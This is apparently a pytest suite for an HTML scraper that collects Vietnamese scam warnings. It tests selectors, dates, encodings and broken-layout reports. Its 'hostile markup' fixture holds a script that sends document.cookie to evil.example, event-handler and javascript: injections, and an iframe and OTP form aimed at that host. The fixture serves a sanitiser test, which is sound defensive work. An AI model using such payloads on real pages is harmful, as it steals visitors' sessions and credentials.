"""HTML adapter: listing and article pages through the selectors of sources.yaml."""

from __future__ import annotations

import unicodedata
from dataclasses import replace
from datetime import UTC, datetime
from html import escape
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from worker.config import Config, load_config
from worker.errors import SourceBroken
from worker.models import Attachment, Entry, Fetched, HtmlSpec, ItemKind, Source
from worker.normalize import normalize_entry
from worker.sources.html import parse_article, parse_listing

ROOT = Path(__file__).resolve().parent.parent.parent
FIXTURES = ROOT / "tests" / "fixtures"
VN = ZoneInfo("Asia/Ho_Chi_Minh")
FETCHED_AT = datetime(2023, 7, 10, 1, 0, tzinfo=UTC)
KGM_URL = "https://khonggianmang.vn/canh-bao"
TNM_URL = "https://tinnhiemmang.vn/canh-bao-lua-dao"
VIETNAMESE = "aàáảãạăằắẳẵặâầấẩẫậbcdđeèéẻẽẹêềếểễệghiìíỉĩịklmnoòóỏõọôồốổỗộơờớởỡợpqrstuùúủũụưừứửữựvxyỳýỷỹỵ"

KGM_TITLES = [
    "Cảnh báo đối tượng giả danh công an gọi điện yêu cầu chuyển tiền để “xác minh” tài khoản",
    "Cẩm nang nhận diện và phòng chống lừa đảo trực tuyến",
    "Cảnh báo lừa đảo tuyển cộng tác viên “chốt đơn ảo”, việc nhẹ lương cao",
]
CP1258_TITLES = [
    "Cảnh báo đối tượng giả danh công an gọi điện yêu cầu chuyển tiền để “xác minh” tài khoản",
    "Cảnh báo ứng dụng VNeID giả mạo nhằm chiếm đoạt tài khoản ngân hàng",
    "Cảnh báo tin nhắn giả mạo ngân hàng gửi đường link lạ để chiếm đoạt tài khoản",
]


@pytest.fixture(scope="module")
def config() -> Config:
    return load_config(ROOT / "sources.yaml")


@pytest.fixture(scope="module")
def kgm(config: Config) -> Source:
    return config.source("khonggianmang-canh-bao")


@pytest.fixture(scope="module")
def tnm(config: Config) -> Source:
    return config.source("tinnhiemmang-canh-bao")


def page(name: str, url: str, *, charset: str | None = None) -> Fetched:
    body = (FIXTURES / name).read_bytes()
    return Fetched(url=url, final_url=url, status=200, body=body, content_type="text/html", charset=charset)


def html_page(html: str, url: str) -> Fetched:
    return Fetched(url=url, final_url=url, status=200, body=html.encode("utf-8"), content_type="text/html")


# --- khonggianmang listing -----------------------------------------------------------------------------------------


def test_khonggianmang_listing_with_configured_selectors(kgm: Source) -> None:
    entries = parse_listing(kgm, page("khonggianmang_listing.html", KGM_URL), VN)
    assert [e.title for e in entries] == KGM_TITLES
    assert [e.url for e in entries] == [
        "https://khonggianmang.vn/bai-viet/canh-bao-doi-tuong-gia-danh-cong-an-goi-dien-yeu-cau-chuyen-tien-xac-minh",
        "https://khonggianmang.vn/bai-viet/cam-nang-nhan-dien-va-phong-chong-lua-dao-truc-tuyen-2023",
        "https://khonggianmang.vn/bai-viet/canh-bao-lua-dao-tuyen-cong-tac-vien-chot-don-ao-viec-nhe-luong-cao",
    ]
    # dd/mm/yyyy in the config time zone; the third card has no date on the listing.
    assert [e.published for e in entries] == [datetime(2023, 7, 7, tzinfo=VN), datetime(2023, 7, 5, tzinfo=VN), None]
    assert entries[0].published == datetime(2023, 7, 6, 17, 0, tzinfo=UTC)
    assert entries[0].summary.startswith("Đối tượng xưng là cán bộ công an, thông báo người nghe")
    assert entries[0].summary.endswith("“tài khoản tạm giữ” để phục vụ điều tra.")
    assert entries[2].summary.startswith("Các đối tượng đăng tin tuyển cộng tác viên làm việc tại nhà")
    assert [e.image for e in entries] == [
        "https://khonggianmang.vn/uploads/small_Gia_danh_cong_an_goi_dien_5c2e9a1f3b.png",
        "https://khonggianmang.vn/uploads/small_Bia_cam_nang_lua_dao_2023_a1b2c3d4e5.png",
        "https://khonggianmang.vn/uploads/small_Chot_don_ao_viec_nhe_luong_cao_6d1f3a8c52.png",
    ]
    assert all(e.source_id == "khonggianmang-canh-bao" and e.guid is None for e in entries)
    assert all(unicodedata.is_normalized("NFC", e.title + e.summary) for e in entries)


def test_khonggianmang_items_are_warnings_keyed_by_url(kgm: Source) -> None:
    entries = parse_listing(kgm, page("khonggianmang_listing.html", KGM_URL), VN)
    items = [normalize_entry(kgm, e, fetched_at=FETCHED_AT, base_url=KGM_URL) for e in entries]
    assert [item.kind for item in items] == [ItemKind.WARNING] * 3  # item_kind: warning in sources.yaml
    assert [item.guid for item in items] == [e.url for e in entries]
    assert items[2].published_at == FETCHED_AT  # no date anywhere yet: the fetch time
    assert items[0].published_at == datetime(2023, 7, 6, 17, 0, tzinfo=UTC)


# --- khonggianmang article -----------------------------------------------------------------------------------------


def listing_entry(kgm: Source, index: int) -> Entry:
    return parse_listing(kgm, page("khonggianmang_listing.html", KGM_URL), VN)[index]


def test_article_fills_body_and_absolute_attachments(kgm: Source) -> None:
    entry = listing_entry(kgm, 1)
    article = page("khonggianmang_article.html", entry.url)
    full = parse_article(kgm, entry, article, VN)
    assert full.attachments == (
        Attachment(url="https://khonggianmang.vn/uploads/Cam_nang_nhan_dien_lua_dao_truc_tuyen_2023_7d41e09ab3.pdf"),
        # site-relative in the page, absolute here
        Attachment(url="https://khonggianmang.vn/uploads/Bai_phat_thanh_mau_phong_chong_lua_dao_4e6a1d2c9b.docx"),
    )
    assert "<h2>Ba việc cần làm ngay khi nghi ngờ bị lừa</h2>" in full.body_html
    assert "Trình báo cơ quan công an gần nhất" in full.body_html
    assert "post-detail__attachments" not in full.body_html  # only the content block
    # What the listing had is kept: its date and summary.
    assert full.published == entry.published == datetime(2023, 7, 5, tzinfo=VN)
    assert full.summary == entry.summary
    assert full.title == entry.title and full.url == entry.url


def test_article_supplies_the_date_the_listing_lacked(kgm: Source) -> None:
    entry = replace(listing_entry(kgm, 1), published=None, summary="")
    full = parse_article(kgm, entry, page("khonggianmang_article.html", entry.url), VN)
    # "Thứ Tư, 05/07/2023 - 15:00" read leniently, in Asia/Ho_Chi_Minh.
    assert full.published == datetime(2023, 7, 5, 15, 0, tzinfo=VN)
    assert full.summary.startswith("Tài liệu tổng hợp các hình thức lừa đảo trực tuyến phổ biến")
    item = normalize_entry(kgm, full, fetched_at=FETCHED_AT, base_url=entry.url)
    assert item.published_at == datetime(2023, 7, 5, 8, 0, tzinfo=UTC)  # equals the page's time@datetime


def test_third_listing_item_gets_its_date_from_the_article(kgm: Source) -> None:
    entry = listing_entry(kgm, 2)
    assert entry.published is None
    article = html_page(
        '<html><body><time class="post-detail__date">Thứ Hai, 03/07/2023 - 10:15</time>'
        '<div class="post-detail__content"><p>Hình thức lừa đảo này thường bắt đầu bằng tin nhắn.</p></div>'
        "</body></html>",
        entry.url,
    )
    full = parse_article(kgm, entry, article, VN)
    assert full.published == datetime(2023, 7, 3, 3, 15, tzinfo=UTC)
    assert full.body_html == "<p>Hình thức lừa đảo này thường bắt đầu bằng tin nhắn.</p>"
    assert full.attachments == ()


def test_article_item_is_sanitised_and_keeps_attachments(kgm: Source) -> None:
    entry = listing_entry(kgm, 1)
    full = parse_article(kgm, entry, page("khonggianmang_article.html", entry.url), VN)
    item = normalize_entry(kgm, full, fetched_at=FETCHED_AT, base_url=entry.url)
    assert "<iframe" not in item.body_html and "youtube" not in item.body_html
    assert "<figcaption>Bìa cẩm nang nhận diện và phòng chống lừa đảo trực tuyến.</figcaption>" in item.body_html
    assert item.body_text.startswith("Bìa cẩm nang nhận diện và phòng chống lừa đảo trực tuyến.\n\nNhằm phục vụ")
    assert item.attachments == full.attachments
    assert item.kind == ItemKind.WARNING


def test_article_body_selector_matching_nothing_is_broken(kgm: Source) -> None:
    entry = listing_entry(kgm, 0)
    redesigned = html_page("<html><body><div class='article-body'><p>Nội dung</p></div></body></html>", entry.url)
    with pytest.raises(SourceBroken) as caught:
        parse_article(kgm, entry, redesigned, VN)
    assert "`div.post-detail__content`" in str(caught.value)
    assert "html.article.body" in str(caught.value)
    assert caught.value.url == entry.url


def test_source_without_article_spec_returns_the_entry_unchanged(kgm: Source) -> None:
    assert kgm.html is not None
    bare = replace(kgm, html=replace(kgm.html, article=None))
    entry = listing_entry(bare, 0)
    assert parse_article(bare, entry, page("khonggianmang_article.html", entry.url), VN) is entry


# --- broken layouts ------------------------------------------------------------------------------------------------


def test_changed_layout_is_reported_as_broken_not_empty(kgm: Source) -> None:
    with pytest.raises(SourceBroken) as caught:
        parse_listing(kgm, page("khonggianmang_listing_changed_layout.html", KGM_URL), VN)
    error = caught.value
    assert "`section.post-list article.post-card`" in error.message
    assert "matched 0 elements" in error.message
    assert "html.item" in error.message
    assert error.kind == "selector"
    assert error.url == KGM_URL
    assert "loa sources test khonggianmang-canh-bao" in error.hint


def with_spec(source: Source, **changes: Any) -> Source:
    assert source.html is not None
    spec: HtmlSpec = replace(source.html, **changes)
    return replace(source, html=spec)


def test_title_selector_matching_nothing_in_every_item_is_broken(kgm: Source) -> None:
    stale = with_spec(kgm, title="h2.post-card__heading a")
    with pytest.raises(SourceBroken) as caught:
        parse_listing(stale, page("khonggianmang_listing.html", KGM_URL), VN)
    message = caught.value.message
    assert "`h2.post-card__heading a`" in message
    assert "html.title" in message
    assert "3 `section.post-list article.post-card` elements" in message
    assert caught.value.kind == "selector"


def test_link_selector_matching_nothing_in_every_item_is_broken(kgm: Source) -> None:
    stale = with_spec(kgm, link="h3.post-card__title a@data-href")
    with pytest.raises(SourceBroken) as caught:
        parse_listing(stale, page("khonggianmang_listing.html", KGM_URL), VN)
    assert "html.link" in caught.value.message
    assert "`h3.post-card__title a@data-href`" in caught.value.message


def test_invalid_item_selector_is_broken_not_a_crash(kgm: Source) -> None:
    # A typo in sources.yaml must be reported like any broken source, so one source cannot stop the run.
    with pytest.raises(SourceBroken) as caught:
        parse_listing(
            with_spec(kgm, item="section.post-list > > article"), page("khonggianmang_listing.html", KGM_URL), VN
        )
    assert "`section.post-list > > article` is not valid CSS" in caught.value.message
    with pytest.raises(SourceBroken) as caught:
        parse_listing(with_spec(kgm, title="h3.post-card__title a["), page("khonggianmang_listing.html", KGM_URL), VN)
    assert "`h3.post-card__title a[` is not valid CSS" in caught.value.message


def test_items_missing_a_title_are_skipped_when_others_have_one(kgm: Source) -> None:
    html = (FIXTURES / "khonggianmang_listing.html").read_text(encoding="utf-8")
    html = html.replace('<h3 class="post-card__title">', '<h3 class="other">', 1)
    entries = parse_listing(kgm, html_page(html, KGM_URL), VN)
    assert [e.title for e in entries] == KGM_TITLES[1:]


# --- windows-1258 --------------------------------------------------------------------------------------------------


def test_windows_1258_with_meta_decodes_to_nfc(kgm: Source) -> None:
    body = (FIXTURES / "listing_windows1258.html").read_bytes()
    assert b'charset="windows-1258"' in body
    entries = parse_listing(kgm, page("listing_windows1258.html", KGM_URL), VN)
    assert [e.title for e in entries] == CP1258_TITLES
    for entry in entries:
        assert unicodedata.is_normalized("NFC", entry.title)
        assert unicodedata.is_normalized("NFC", entry.summary)
        assert not any(unicodedata.combining(c) for c in entry.title + entry.summary)
    assert entries[1].summary.startswith("Kẻ gian gửi đường link tải ứng dụng “VNeID” giả qua tin nhắn, Zalo")
    assert [e.published for e in entries] == [
        datetime(2023, 7, 7, tzinfo=VN),
        datetime(2023, 7, 6, tzinfo=VN),
        datetime(2023, 6, 27, tzinfo=VN),
    ]
    # Site-relative images become absolute.
    assert entries[0].image == "https://khonggianmang.vn/uploads/small_Gia_danh_cong_an_goi_dien_5c2e9a1f3b.png"


def test_windows_1258_named_only_in_the_http_header(kgm: Source) -> None:
    body = (FIXTURES / "listing_windows1258_nometa.html").read_bytes()
    assert b"charset" not in body.lower() and b"1258" not in body
    from_header = parse_listing(kgm, page("listing_windows1258_nometa.html", KGM_URL, charset="windows-1258"), VN)
    from_meta = parse_listing(kgm, page("listing_windows1258.html", KGM_URL), VN)
    assert [e.title for e in from_header] == CP1258_TITLES
    assert from_header == from_meta


def test_windows_1258_named_nowhere_falls_back_to_cp1258(kgm: Source) -> None:
    entries = parse_listing(kgm, page("listing_windows1258_nometa.html", KGM_URL), VN)
    assert [e.title for e in entries] == CP1258_TITLES


# --- tinnhiemmang --------------------------------------------------------------------------------------------------


def test_tinnhiemmang_listing_with_configured_selectors(tnm: Source) -> None:
    entries = parse_listing(tnm, page("tinnhiemmang_listing.html", TNM_URL), VN)
    assert [e.title for e in entries] == [
        "Cảnh báo mạo danh công an gọi điện yêu cầu chuyển tiền để xác minh tài khoản",
        "Cảnh báo mạo danh nhân viên điện lực gọi điện đòi tiền điện",
        "Cảnh báo thủ đoạn báo tin “con đang cấp cứu” để lừa phụ huynh chuyển tiền",
        "Cảnh báo ứng dụng cho vay tiền online lãi suất cắt cổ, đòi nợ kiểu khủng bố",
        "Cảnh báo giả danh nhà mạng hỗ trợ nâng cấp SIM 4G để chiếm đoạt tài khoản",
    ]
    assert entries[1].url == "https://tinnhiemmang.vn/canh-bao-mao-danh-nhan-vien-dien-luc-goi-dien-doi-tien-dien"
    assert all(e.url.startswith("https://tinnhiemmang.vn/canh-bao-") for e in entries)
    assert entries[0].summary.startswith("Đối tượng tự xưng cán bộ công an")
    assert [bool(e.summary) for e in entries] == [True, True, False, False, False]  # vertical cards have none
    assert [e.published for e in entries] == [
        datetime(2023, 7, 8, tzinfo=VN),
        datetime(2023, 7, 5, tzinfo=VN),
        datetime(2023, 7, 4, tzinfo=VN),
        datetime(2023, 6, 29, tzinfo=VN),
        datetime(2023, 6, 26, tzinfo=VN),
    ]
    assert entries[2].image == "https://tinnhiemmang.vn/storage/photos/shares/uploads/con-dang-cap-cuu.jpg"
    # The pagination links sit outside the items and never become entries.
    assert not any("page=" in e.url for e in entries)


def test_tinnhiemmang_article_body(tnm: Source) -> None:
    entry = parse_listing(tnm, page("tinnhiemmang_listing.html", TNM_URL), VN)[1]
    full = parse_article(tnm, replace(entry, published=None), page("tinnhiemmang_article.html", entry.url), VN)
    assert full.body_html.count("<p>") == 4
    assert "<strong>Khuyến nghị:</strong>" in full.body_html
    assert full.published == datetime(2023, 7, 5, tzinfo=VN)  # div.date-create, %d/%m/%Y
    item = normalize_entry(tnm, full, fetched_at=FETCHED_AT, base_url=entry.url)
    assert item.body_text.count("\n\n") == 2  # three text paragraphs; the image one has no text
    assert item.body_text.startswith("Lợi dụng thời điểm nắng nóng")


# --- hostile markup ------------------------------------------------------------------------------------------------

HOSTILE_ARTICLE = """<html><body>
<time class="post-detail__date">06/07/2023</time>
<div class="post-detail__content">
  <p style="color:red" onclick="steal()">Cảnh báo <b>lừa đảo</b> qua mã QR.</p>
  <script>document.location='https://evil.example/?c='+document.cookie</script>
  <img src="https://khonggianmang.vn/uploads/qr.png" onerror="alert(1)" alt="Mã QR giả">
  <a href="javascript:alert(1)">bấm vào đây</a>
  <a href="https://khonggianmang.vn/bai-viet/qr">Xem thêm</a>
  <style>p { display: none }</style>
  <iframe src="https://evil.example/frame"></iframe>
  <form action="https://evil.example/login"><input name="otp"></form>
</div></body></html>"""


def test_hostile_article_body_is_sanitised_by_normalize(kgm: Source) -> None:
    entry = listing_entry(kgm, 0)
    full = parse_article(kgm, entry, html_page(HOSTILE_ARTICLE, entry.url), VN)
    assert "<script>" in full.body_html  # the adapter hands over raw HTML ...
    item = normalize_entry(kgm, full, fetched_at=FETCHED_AT, base_url=entry.url)
    body = item.body_html.lower()  # ... normalize_entry makes it safe
    for bad in ("<script", "onerror", "onclick", "javascript:", "style", "<iframe", "<form", "<input", "evil.example"):
        assert bad not in body, bad
    assert "<p>Cảnh báo <b>lừa đảo</b> qua mã QR.</p>" in item.body_html
    assert 'src="https://khonggianmang.vn/uploads/qr.png"' in item.body_html
    assert 'href="https://khonggianmang.vn/bai-viet/qr"' in item.body_html
    assert "document.cookie" not in item.body_text and "display" not in item.body_text
    assert "Cảnh báo lừa đảo qua mã QR." in item.body_text


# --- properties -----------------------------------------------------------------------------------------------------

words = st.text(alphabet=VIETNAMESE + VIETNAMESE.upper() + "0123456789“”", min_size=1, max_size=10)
phrases = st.lists(words, min_size=1, max_size=8).map(" ".join)


@settings(max_examples=40, deadline=None)
@given(titles=st.lists(phrases, min_size=1, max_size=4), summary=phrases)
def test_any_listing_parses_the_same_in_nfc_and_nfd(kgm: Source, titles: list[str], summary: str) -> None:
    cards = "".join(
        f'<article class="post-card"><h3 class="post-card__title"><a href="/bai-viet/{i}">{escape(title)}</a></h3>'
        f'<p class="post-card__summary">{escape(summary)}</p><time class="post-card__date">0{i + 1}/07/2023</time>'
        "</article>"
        for i, title in enumerate(titles)
    )
    html = f'<html><head><meta charset="utf-8"></head><body><section class="post-list">{cards}</section></body></html>'
    nfc = parse_listing(kgm, html_page(unicodedata.normalize("NFC", html), KGM_URL), VN)
    nfd = parse_listing(kgm, html_page(unicodedata.normalize("NFD", html), KGM_URL), VN)
    assert nfc == nfd
    assert [e.title for e in nfc] == titles
    assert all(e.summary == summary for e in nfc)
    assert [e.url for e in nfc] == [f"https://khonggianmang.vn/bai-viet/{i}" for i in range(len(titles))]
    assert [e.published for e in nfc] == [datetime(2023, 7, i + 1, tzinfo=VN) for i in range(len(titles))]
